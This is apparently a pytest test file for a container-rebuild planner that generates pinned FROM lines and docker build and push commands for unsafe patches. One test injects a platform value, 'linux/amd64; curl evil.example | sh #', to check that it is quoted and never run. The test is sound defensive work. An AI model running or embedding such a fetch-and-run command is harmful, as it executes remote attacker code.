"""What is offered where a patch is unsafe: what to copy builds on the very release that the plan names."""

from dataclasses import replace

import pytest

from functions_app.domain.changes.patching.patches import PatchPlan
from functions_app.domain.changes.patching.rebuild_offers import rebuild_offers
from functions_app.domain.rebase.safety.findings import Finding, Verdict
from tests.factories import digest
from tests.patch_plans import BASE, make_golden_patch, make_patch_plan

UNSAFE = Finding("package-pinned", ("a",), 1)


def found(*findings: Finding, tag: str = "1.4.2") -> PatchPlan:
    """A plan with these findings on the function's own image."""
    return make_patch_plan(verdict=Verdict.of(findings), app_tag=tag)


def test_from_line_and_commands_name_the_release_by_its_digest_and_a_tag_that_is_new() -> None:
    (offer,) = rebuild_offers(found(UNSAFE, tag="1.4.2-base-20260901-01234567"))
    assert offer.from_line == f"FROM public.ecr.aws/lambda/python:3.12.2026.11.01.10@{digest('index')}"
    image = "111111111111.dkr.ecr.eu-west-1.amazonaws.com/app:1.4.2-rebuilt-20261101"
    assert offer.commands == (
        f"docker build --pull --provenance=false --platform linux/amd64 -t {image} .\ndocker push {image}"
    )
    assert not offer.move


def test_a_move_to_another_system_is_called_one() -> None:
    (offer,) = rebuild_offers(found(Finding("os-changed"), UNSAFE, tag=""))
    assert offer.move
    assert "/app:img-rebuilt-20261101 ." in offer.commands


def test_what_a_base_calls_its_platform_is_a_word_of_the_command_and_no_command() -> None:
    base = replace(BASE, platform="linux/amd64; curl evil.example | sh #")
    (offer,) = rebuild_offers(replace(found(UNSAFE), base=base))
    assert " --platform 'linux/amd64; curl evil.example | sh #' -t " in offer.commands


@pytest.mark.parametrize("codes", [[], ["linker-cache"], ["base-withdrawn"], ["package-pinned", "os-older"]])
def test_nothing_is_offered_where_it_may_go_on_or_the_base_must_not_be_used(codes: list[str]) -> None:
    assert rebuild_offers(found(*map(Finding, codes))) == ()


def test_a_golden_image_is_built_first_and_what_stands_on_it_begins_with_its_owners_tag() -> None:
    golden = make_golden_patch(verdict=Verdict.of([UNSAFE]))
    first, own = rebuild_offers(make_patch_plan(golden=(golden,)))
    assert (first.golden, own.golden) == ("platform/golden:stable", "")
    assert first.from_line == f"FROM public.ecr.aws/lambda/python:3.12.2026.11.01.10@{digest('index')}"
    assert "/platform/golden:stable-1.0.0-rebuilt-20261101 ." in first.commands
    assert own.from_line == f"FROM {golden.moving}"
    assert "/app:1.4.2-rebuilt-20261101 ." in own.commands
